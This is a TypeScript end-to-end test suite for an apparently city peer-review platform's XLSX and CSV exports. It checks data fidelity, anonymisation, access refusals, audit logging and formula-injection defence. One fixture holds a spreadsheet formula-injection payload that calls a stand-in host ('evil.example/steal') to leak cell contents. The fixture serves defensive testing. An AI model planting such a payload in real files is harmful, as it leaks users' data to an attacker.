import * as XLSX from '@e965/xlsx';
import Papa from 'papaparse';
import { randomUUID } from 'node:crypto';
import { createPerson, createReviewFixture, createTestApp, GraphqlClient, TEST_PASSWORD, TestApp } from '@peervisit/testing';
import { AppModule } from '../../apps/api/src/app.module';

type Fixture = Awaited<ReturnType<typeof createReviewFixture>>;
type Rows = Record<string, string | number>[];

/**
 * Spreadsheet exports over HTTP, read back with readers nobody here wrote (SheetJS for XLSX,
 * papaparse for CSV) and compared with the database; formula injection; anonymised evidence; who
 * may export what; each export in the audit trail.
 */
describe('exports, end to end', () => {
  let t: TestApp;
  let f: Fixture;
  let early: Fixture;
  const as = {} as Record<
    'admin' | 'leader' | 'peer' | 'coordinator' | 'contributor' | 'observer' | 'stranger' | 'earlyHost',
    GraphqlClient
  >;
  const hostile = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")';
  const rec = {} as Record<'hostile' | 'plain', string>;

  const get = (path: string, token?: string) => fetch(`${t.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  const xlsxRows = async (response: Response, sheet?: string): Promise<Rows> => {
    const book = XLSX.read(Buffer.from(await response.arrayBuffer()));
    return XLSX.utils.sheet_to_json(book.Sheets[sheet ?? book.SheetNames[0]], { defval: '' });
  };
  const csvRows = async (response: Response): Promise<Rows> =>
    Papa.parse<Record<string, string>>((await response.text()).replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
  const audits = (reviewId: string, action: string): Promise<{ actor_id: string; entity_id: string; after: Record<string, unknown> }[]> =>
    t.dataSource.query('SELECT actor_id, entity_id, after FROM audit_entry WHERE review_id = $1 AND action = $2 ORDER BY at', [
      reviewId,
      action,
    ]);

  beforeAll(async () => {
    t = await createTestApp({ module: AppModule.register({ workers: false }) });
    const { CatalogueSeed } = await import('@peervisit/catalogue');
    await t.app.get(CatalogueSeed).run();
    f = await createReviewFixture(t.dataSource, { status: 'FEEDBACK', scope: [1, 2, 3], cityName: 'Tromsø Export' });
    early = await createReviewFixture(t.dataSource, { status: 'DELIBERATION', scope: [1] });
    for (const who of ['leader', 'peer', 'coordinator', 'contributor', 'observer'] as const)
      as[who] = await t.gql.signIn(f.people[who].email, TEST_PASSWORD);
    as.stranger = await t.gql.signIn(early.people.leader.email, TEST_PASSWORD);
    as.earlyHost = await t.gql.signIn(early.people.coordinator.email, TEST_PASSWORD);
    as.admin = await t.gql.signIn((await createPerson(t.dataSource, { isAdmin: true })).email, TEST_PASSWORD);

    // Ratings: the city's self-assessment on 01 and 02 (02 assigned to the contributor), the team's agreed rating on all three.
    const [k1, k2, k3] = f.keyFactors;
    await t.dataSource.query(
      `INSERT INTO self_assessment_entry (review_id, key_factor_id, rating, assignee_id) VALUES ($1, $2, 3, NULL), ($1, $3, 2, $4)`,
      [f.reviewId, k1.id, k2.id, f.people.contributor.id],
    );
    for (const [k, rating] of [
      [k1, 2],
      [k2, 1],
      [k3, 4],
    ] as const)
      await t.dataSource.query(
        `INSERT INTO conclusion (review_id, key_factor_id, rating, summary, status, agreed_at) VALUES ($1, $2, $3, 'Summary', 'AGREED', now())`,
        [f.reviewId, k.id, rating],
      );

    // Recommendations, answered by the city, one with progress reports.
    const add = 'mutation($r: ID!, $input: RecommendationInput!) { addRecommendation(reviewId: $r, input: $input) { id } }';
    rec.plain = (
      await as.peer.ok(add, {
        r: f.reviewId,
        input: {
          text: 'Train front-desk staff, as Nora Hidden suggested.',
          keyFactorIds: [k1.id, k2.id],
          priority: 'LOW',
          horizon: 'LONG_TERM',
          suggestedOwner: 'HR department',
        },
      })
    ).addRecommendation.id;
    rec.hostile = (
      await as.leader.ok(add, {
        r: f.reviewId,
        input: { text: hostile, keyFactorIds: [k3.id], priority: 'HIGH', horizon: 'QUICK_WIN', suggestedOwner: '+Mayor' },
      })
    ).addRecommendation.id;
    await as.coordinator.ok(
      'mutation($id: ID!, $c: String) { respondToRecommendation(recommendationId: $id, response: PARTLY_ACCEPTED, comment: $c) { id } }',
      { id: rec.plain, c: '-only the front desk, not the call centre' },
    );
    const report = 'mutation($id: ID!, $input: FollowUpInput!) { reportFollowUp(recommendationId: $id, input: $input) { id } }';
    await as.coordinator.ok(report, { id: rec.plain, input: { status: 'IN_PROGRESS', note: 'First course held.', asOf: '2026-04-01' } });
    await as.contributor.ok(report, { id: rec.plain, input: { status: 'IMPLEMENTED', note: '@all staff trained.', asOf: '2026-05-02' } });

    // Evidence: met people, one who did not consent to be named, quoted by name.
    const [hidden] = await t.dataSource.query(
      `INSERT INTO stakeholder (city_id, name, category, consent_to_be_named) VALUES ($1, 'Nora Hidden', 'CITY_OFFICIAL', false) RETURNING id`,
      [f.city.id],
    );
    const [named] = await t.dataSource.query(
      `INSERT INTO stakeholder (city_id, name, category, consent_to_be_named) VALUES ($1, 'Ola Named', 'RESIDENT', true) RETURNING id`,
      [f.city.id],
    );
    const [session] = await t.dataSource.query(
      `INSERT INTO visit_session (review_id, kind, title, starts_at, ends_at, created_by_id)
       VALUES ($1, 'INTERVIEW', 'Interview with Nora Hidden', '2027-03-10T08:00:00Z', '2027-03-10T09:00:00Z', $2) RETURNING id`,
      [f.reviewId, f.people.leader.id],
    );
    await t.dataSource.query('INSERT INTO session_stakeholder (session_id, stakeholder_id) VALUES ($1, $2), ($1, $3)', [
      session.id,
      hidden.id,
      named.id,
    ]);
    const evidence = `INSERT INTO evidence (id, review_id, source, session_id, stakeholder_category, key_factor_ids, statement, quote, stance, logged_by_id, observed_at)
                      VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11)`;
    await t.dataSource.query(evidence, [
      randomUUID(),
      f.reviewId,
      'INTERVIEW',
      session.id,
      'CITY_OFFICIAL',
      [k1.id, k3.id],
      'Nora Hidden says the front desk turns people away; Ola Named agrees.',
      '=1+1 "we have no interpreters", said Nora Hidden',
      'CONTRADICTS',
      f.people.peer.id,
      '2027-03-10T08:30:00Z',
    ]);
    await t.dataSource.query(evidence, [
      randomUUID(),
      f.reviewId,
      'DOCUMENT',
      null,
      null,
      [k2.id],
      'The diversity statement is on the website.',
      null,
      'SUPPORTS',
      f.people.leader.id,
      '2027-03-11T10:00:00Z',
    ]);
    const retracted = randomUUID();
    await t.dataSource.query(evidence, [
      retracted,
      f.reviewId,
      'OBSERVATION',
      null,
      null,
      [k2.id],
      'Retracted item',
      null,
      'NEUTRAL',
      f.people.peer.id,
      '2027-03-11T11:00:00Z',
    ]);
    await t.dataSource.query("UPDATE evidence SET retracted_at = now(), retraction_reason = 'wrong' WHERE id = $1", [retracted]);
  });
  afterAll(() => t?.close());

  it('ratings: the same figures in XLSX and CSV as in the database, with the city in the file name; audited', async () => {
    const expected: { code: string; heading: string; self: number | null; team: number }[] = await t.dataSource.query(
      `SELECT k.code, k.heading, e.rating AS self, c.rating AS team FROM key_factor k
         JOIN conclusion c ON c.key_factor_id = k.id AND c.review_id = $1
         LEFT JOIN self_assessment_entry e ON e.key_factor_id = k.id AND e.review_id = $1
        ORDER BY k.number`,
      [f.reviewId],
    );
    const xlsx = await get(`/exports/reviews/${f.reviewId}/ratings.xlsx`, as.leader.token);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(xlsx.headers.get('content-disposition')).toBe(
      `attachment; filename*=UTF-8''${encodeURIComponent('Tromsø-Export-ratings.xlsx')}`,
    );
    const rows = await xlsxRows(xlsx);
    expect(rows.map((r) => [r['Key factor'], r.Title, r['Self-assessment rating'], r["Team's rating"], r.Conclusion])).toEqual(
      expected.map((e) => [e.code, e.heading, e.self ?? '', e.team, 'Agreed']),
    );
    const csv = await get(`/exports/reviews/${f.reviewId}/ratings.csv`, as.coordinator.token);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const csvData = await csvRows(csv);
    expect(csvData.map((r) => [r['Key factor'], r['Self-assessment rating'], r["Team's rating"]])).toEqual(
      expected.map((e) => [e.code, e.self == null ? '' : String(e.self), String(e.team)]),
    );
    // A host contributor reads only the self-assessment entries assigned to them, here too.
    const contributor = await csvRows(await get(`/exports/reviews/${f.reviewId}/ratings.csv`, as.contributor.token));
    expect(contributor.map((r) => r['Self-assessment rating'])).toEqual(['', '2', '']);
    const trail = await audits(f.reviewId, 'export.ratings');
    expect(trail.map((a) => [a.actor_id, a.entity_id, a.after.format])).toEqual([
      [f.people.leader.id, f.reviewId, 'xlsx'],
      [f.people.coordinator.id, f.reviewId, 'csv'],
      [f.people.contributor.id, f.reviewId, 'csv'],
    ]);
  });

  it('recommendations: answers and progress reports as stored; a formula comes back as text in both formats', async () => {
    const xlsx = await get(`/exports/reviews/${f.reviewId}/recommendations.xlsx`, as.leader.token);
    expect(xlsx.status).toBe(200);
    const buffer = Buffer.from(await xlsx.arrayBuffer());
    const book = XLSX.read(buffer);
    expect(book.SheetNames).toEqual(['Recommendations', 'Progress reports', 'Plan actions']);
    const sheet = book.Sheets.Recommendations;
    // HIGH first: the hostile one is row 2, a string cell holding the text as written, with no formula.
    expect(sheet.B2).toMatchObject({ t: 's', v: hostile });
    expect(sheet.B2.f).toBeUndefined();
    expect(sheet.F2).toMatchObject({ t: 's', v: '+Mayor' });
    const rows = await xlsxRows(new Response(buffer));
    const stored: { text: string; host_comment: string | null; host_response: string | null; follow_up_status: string }[] =
      await t.dataSource.query(
        "SELECT text, host_comment, host_response, follow_up_status FROM recommendation WHERE review_id = $1 ORDER BY CASE priority WHEN 'HIGH' THEN 0 WHEN 'MEDIUM' THEN 1 ELSE 2 END",
        [f.reviewId],
      );
    expect(rows.map((r) => r.Recommendation)).toEqual(stored.map((s) => s.text));
    expect(rows[1]).toMatchObject({
      'Key factors': `${f.keyFactors[0].code}, ${f.keyFactors[1].code}`,
      Priority: 'Low',
      Horizon: 'Long term',
      Owner: 'HR department',
      "City's answer": 'Partly accepted',
      "City's comment": stored[1].host_comment!,
      'Follow-up status': 'Implemented',
      'Progress reports': '2026-04-01 (In progress): First course held.\n2026-05-02 (Implemented): @all staff trained.',
    });
    const updates: { as_of: string; note: string }[] = await t.dataSource.query(
      "SELECT to_char(as_of, 'YYYY-MM-DD') AS as_of, note FROM follow_up_update WHERE recommendation_id = $1 ORDER BY as_of",
      [rec.plain],
    );
    const progress = await xlsxRows(new Response(buffer), 'Progress reports');
    expect(progress.map((p) => [p['No.'], p.Date, p.Report])).toEqual(updates.map((u) => [2, u.as_of, u.note]));

    const csv = await csvRows(await get(`/exports/reviews/${f.reviewId}/recommendations.csv`, as.observer.token));
    // In CSV a leading single quote keeps a spreadsheet from evaluating it (OWASP).
    expect(csv.map((r) => r.Recommendation)).toEqual([`'${hostile}`, 'Train front-desk staff, as [name withheld] suggested.']);
    expect(csv[0].Owner).toBe("'+Mayor");
    expect(csv[1]["City's comment"]).toBe("'-only the front desk, not the call centre");
    expect(csv[1]['Progress reports']).toBe('2026-04-01 (In progress): First course held.\n2026-05-02 (Implemented): @all staff trained.');
    expect((await audits(f.reviewId, 'export.recommendations')).map((a) => a.actor_id)).toEqual([f.people.leader.id, f.people.observer.id]);
  });

  it('evidence: the team gets it as logged (retracted items left out); anonymised, no name of someone who did not consent', async () => {
    const stored: { statement: string }[] = await t.dataSource.query(
      'SELECT statement FROM evidence WHERE review_id = $1 AND retracted_at IS NULL ORDER BY observed_at',
      [f.reviewId],
    );
    const raw = await get(`/exports/reviews/${f.reviewId}/evidence.xlsx`, as.peer.token);
    expect(raw.status).toBe(200);
    expect(raw.headers.get('content-disposition')).toContain(encodeURIComponent('Tromsø-Export-evidence.xlsx'));
    const rows = await xlsxRows(raw);
    expect(rows.map((r) => r.Statement)).toEqual(stored.map((s) => s.statement));
    expect(rows[0]).toMatchObject({
      Quote: '=1+1 "we have no interpreters", said Nora Hidden',
      Source: 'Interview',
      Stance: 'Contradicts',
      'Key factors': `${f.keyFactors[0].code}, ${f.keyFactors[2].code}`,
      Session: 'Interview with Nora Hidden',
      'Stakeholder category': 'a city official',
      'Logged by': 'Piet Peer',
      'Observed (Europe/Oslo)': '2027-03-10 09:30',
    });

    const anonymised = await get(`/exports/reviews/${f.reviewId}/evidence.csv?anonymise=true`, as.leader.token);
    expect(anonymised.status).toBe(200);
    expect(anonymised.headers.get('content-disposition')).toContain(encodeURIComponent('Tromsø-Export-evidence-anonymised.csv'));
    const text = await anonymised.clone().text();
    expect(text).not.toMatch(/Nora|Hidden/);
    const csv = await csvRows(anonymised);
    expect(csv[0]).toMatchObject({
      Statement: '[name withheld] says the front desk turns people away; Ola Named agrees.',
      Quote: `'=1+1 "we have no interpreters", said [name withheld]`,
      Session: 'Interview with [name withheld]',
      // One city official met: fewer than three, so attributed as the report does.
      'Stakeholder category': 'another stakeholder',
    });
    const trail = await audits(f.reviewId, 'export.evidence');
    expect(trail.map((a) => [a.actor_id, a.after.anonymised, a.after.items])).toEqual([
      [f.people.peer.id, false, 2],
      [f.people.leader.id, true, 2],
    ]);
  });

  it('network ratings: the secretariat gets networkRatings as a spreadsheet, audited in each review it counts', async () => {
    const [{ code, version }] = await t.dataSource.query('SELECT code, version FROM benchmark WHERE id = $1', [f.benchmarkId]);
    const data = (
      await as.admin.ok(
        'query($c: String!, $v: Int!) { networkRatings(benchmarkCode: $c, version: $v) { keyFactor { code heading } cities average ratings { rating count } } }',
        {
          c: code,
          v: version,
        },
      )
    ).networkRatings as {
      keyFactor: { code: string; heading: string };
      cities: number;
      average: number | null;
      ratings: { rating: number; count: number }[];
    }[];
    const xlsx = await get(`/exports/network/ratings.xlsx?benchmark=${encodeURIComponent(code)}&version=${version}`, as.admin.token);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-disposition')).toBe(`attachment; filename*=UTF-8''network-ratings-${code}-v${version}.xlsx`);
    const rows = await xlsxRows(xlsx);
    expect(rows.map((r) => [r['Key factor'], r.Title, r.Cities, r.Average])).toEqual(
      data.map((k) => [k.keyFactor.code, k.keyFactor.heading, k.cities, k.average ?? '']),
    );
    const rated = rows.find((r) => r['Key factor'] === f.keyFactors[2].code)!;
    expect(Object.entries(rated).find(([h]) => h.startsWith('Rated 4'))?.[1]).toBe(1);
    const csv = await csvRows(
      await get(`/exports/network/ratings.csv?benchmark=${encodeURIComponent(code)}&version=${version}`, as.admin.token),
    );
    expect(csv.map((r) => r['Key factor'])).toEqual(data.map((k) => k.keyFactor.code));
    // Counted: the review shared with its city (FEEDBACK), not the one still in deliberation.
    expect((await audits(f.reviewId, 'export.networkRatings')).map((a) => [a.entity_id, a.after.format])).toEqual([
      [f.benchmarkId, 'xlsx'],
      [f.benchmarkId, 'csv'],
    ]);
    expect(await audits(early.reviewId, 'export.networkRatings')).toEqual([]);
    // Bad requests are the API's usual JSON errors.
    const missing = await get('/exports/network/ratings.xlsx', as.admin.token);
    expect(missing.status).toBe(400);
    expect(await missing.json()).toMatchObject({ code: 'BAD_USER_INPUT' });
    const unknown = await get('/exports/network/ratings.xlsx?benchmark=NOPE&version=1', as.admin.token);
    expect(unknown.status).toBe(404);
  });

  it('refuses whoever may not read the data, with JSON errors, and writes nothing to the audit trail', async () => {
    const before = (await t.dataSource.query("SELECT count(*)::int AS n FROM audit_entry WHERE action LIKE 'export.%'"))[0].n;
    const refusals: [string, string | undefined, number, string][] = [
      [`/exports/reviews/${f.reviewId}/ratings.xlsx`, undefined, 401, 'UNAUTHENTICATED'],
      [`/exports/reviews/${f.reviewId}/ratings.xlsx`, as.stranger.token, 403, 'FORBIDDEN'],
      [`/exports/reviews/${f.reviewId}/recommendations.csv`, as.stranger.token, 403, 'FORBIDDEN'],
      [`/exports/reviews/${f.reviewId}/evidence.csv`, as.stranger.token, 403, 'FORBIDDEN'],
      [`/exports/reviews/${early.reviewId}/ratings.csv`, as.earlyHost.token, 403, 'FORBIDDEN'],
      [`/exports/reviews/${early.reviewId}/recommendations.xlsx`, as.earlyHost.token, 403, 'FORBIDDEN'],
      [`/exports/reviews/${f.reviewId}/evidence.xlsx`, as.coordinator.token, 403, 'FORBIDDEN'],
      [`/exports/reviews/${f.reviewId}/evidence.csv?anonymise=true`, as.observer.token, 403, 'FORBIDDEN'],
      [`/exports/network/ratings.csv?benchmark=EUROCITIES-PCD&version=1`, as.leader.token, 403, 'FORBIDDEN'],
      [`/exports/reviews/${f.reviewId}/secrets.xlsx`, as.leader.token, 404, 'NOT_FOUND'],
      [`/exports/reviews/not-a-uuid/ratings.xlsx`, as.leader.token, 404, 'NOT_FOUND'],
      [`/exports/reviews/${randomUUID()}/ratings.csv`, as.admin.token, 404, 'NOT_FOUND'],
    ];
    for (const [path, token, status, code] of refusals) {
      const response = await get(path, token);
      expect({ path, status: response.status }).toEqual({ path, status });
      const body = await response.text();
      expect({ path, body: JSON.parse(body) }).toMatchObject({ path, body: { code } });
      expect(body).not.toContain('Nora');
    }
    const host = (await (await get(`/exports/reviews/${early.reviewId}/ratings.csv`, as.earlyHost.token)).json()) as { message: string };
    expect(host.message).toBe('The conclusions and recommendations are shared with the host city at the feedback session.');
    expect((await t.dataSource.query("SELECT count(*)::int AS n FROM audit_entry WHERE action LIKE 'export.%'"))[0].n).toBe(before);
  });
});
